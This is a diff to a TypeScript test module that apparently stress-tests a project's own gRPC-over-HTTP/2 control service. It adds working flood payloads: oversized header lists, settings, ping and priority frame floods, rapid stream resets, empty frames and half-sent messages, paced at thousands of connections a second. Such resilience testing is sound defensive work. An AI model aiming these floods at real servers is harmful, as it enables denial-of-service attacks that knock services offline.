@@ -19,9 +19,9 @@ import { systemClock } from '../../src/kernel/clock.js';
 import { agentKeysFrom } from '../../src/channel/noise/control-psk.js';
 import { endHeaders, frame, FrameType, headerList, opening, rstStream } from '../../scripts/stack/http2-frames.js';
 import { answerParent } from '../child.js';
+import type { FloodKind } from '../flood-kinds.js';
 
-export const attacks = ['reset', 'idle', 'malformed', 'offers', 'hello_loop', 'reports', 'heartbeats'] as const;
-export type Attack = (typeof attacks)[number];
+export type Attack = FloodKind | 'reset' | 'idle' | 'malformed' | 'offers' | 'hello_loop' | 'reports' | 'heartbeats';
 
 export interface StartAttack {
   readonly attack: Attack;
@@ -75,10 +75,76 @@ async function run(attack: StartAttack, signal: AbortSignal): Promise<number> {
       return flood(attack, signal, 1_000, report);
     case 'heartbeats':
       return flood(attack, signal, 50, () => emptyEntries);
-    default:
-      return attack.attack satisfies never;
+    default: {
+      const bytes = floodOf(attack.attack);
+      let made = 0;
+      await paced(floodPerSecond, signal, () => {
+        if (write(attack, bytes, 1_000)) made += 1;
+      });
+      return made;
+    }
   }
 }
+
+/** 100,000 in a minute, and what the machine did not manage is made up for. */
+const floodPerSecond = 1_700;
+
+function floodOf(flood: FloodKind): Buffer {
+  const times = (count: number, part: (index: number) => Buffer): Buffer =>
+    Buffer.concat([opening, ...Array.from({ length: count }, (_, index) => part(index))]);
+  const stream = (index: number): number => 2 * index + 1;
+  const call = (index: number, more: Readonly<Record<string, string>>, flags = endHeaders): Buffer => {
+    const list = headerList({ ...openSession, ...more });
+    const pieces = Array.from({ length: Math.ceil(list.length / frameMax) }, (_, piece) =>
+      frame(
+        piece === 0 ? FrameType.headers : FrameType.continuation,
+        (piece + 1) * frameMax >= list.length ? flags : 0,
+        stream(index),
+        list.subarray(piece * frameMax, (piece + 1) * frameMax),
+      ),
+    );
+    return Buffer.concat(pieces);
+  };
+  switch (flood) {
+    case 'header_lists':
+      return times(4, (index) => call(index, { x: 'v'.repeat(56_000) }));
+    case 'allowed_headers':
+      return times(4, (index) => call(index, { x: 'v'.repeat(7_500) }));
+    case 'settings_frames':
+      return times(4_000, () => frame(FrameType.settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255])));
+    case 'ping_frames':
+      return times(4_000, () => frame(FrameType.ping, 0, 0, Buffer.alloc(8)));
+    case 'rapid_resets':
+      return times(600, (index) => Buffer.concat([call(index, {}), rstStream(stream(index))]));
+    case 'empty_frames': {
+      const data = Buffer.concat(Array.from({ length: 3_000 }, () => frame(FrameType.data, 0, 1)));
+      const more = Buffer.concat(Array.from({ length: 3_000 }, () => frame(FrameType.continuation, 0, 3)));
+      return times(1, () => Buffer.concat([call(0, {}), data, call(1, {}, 0), more]));
+    }
+    case 'priority_frames':
+      return times(4_000, (index) => frame(FrameType.priority, 0, stream(index), Buffer.from([0, 0, 0, 0, 16])));
+    case 'half_requests':
+      return times(1, () => Buffer.concat([call(0, {}), ...halfMessage]));
+    default:
+      return flood satisfies never;
+  }
+}
+
+const frameMax = 16_384;
+const openSession = {
+  ':method': 'POST',
+  ':scheme': 'http',
+  ':authority': 'a',
+  ':path': '/svc.control.v1.SecureAgentService/OpenSession',
+  'content-type': 'application/grpc',
+  te: 'trailers',
+};
+/** 60,000 bytes of a message of 66,000. */
+const halfMessage = Array.from({ length: 4 }, (_, index) => {
+  const piece = Buffer.alloc(15_000);
+  if (index === 0) piece.writeUInt32BE(66_000, 1);
+  return frame(FrameType.data, 0, 1, piece);
+});
 
 /** Calls `act` `perSecond` times a second until the signal aborts. */
 async function paced(perSecond: number, signal: AbortSignal, act: () => void): Promise<number> {
@@ -94,8 +160,9 @@ async function paced(perSecond: number, signal: AbortSignal, act: () => void): P
 
 const open = new Set<Socket>();
 
-function write({ host, port }: StartAttack, bytes: Buffer, lifeMs: number): void {
-  if (open.size >= 2_000) return;
+/** @returns false if too many are open */
+function write({ host, port }: StartAttack, bytes: Buffer, lifeMs: number): boolean {
+  if (open.size >= 2_000) return false;
   const socket = createConnection({ host, port, localAddress: strangersAddress });
   open.add(socket);
   socket.on('error', () => undefined);
@@ -103,6 +170,7 @@ function write({ host, port }: StartAttack, bytes: Buffer, lifeMs: number): void
   socket.setTimeout(lifeMs, () => socket.destroy());
   socket.resume();
   socket.write(bytes);
+  return true;
 }
 
 /** OpenSession requests of 16 KiB that do not parse, 1.8 MB a second, four at once on each connection. */
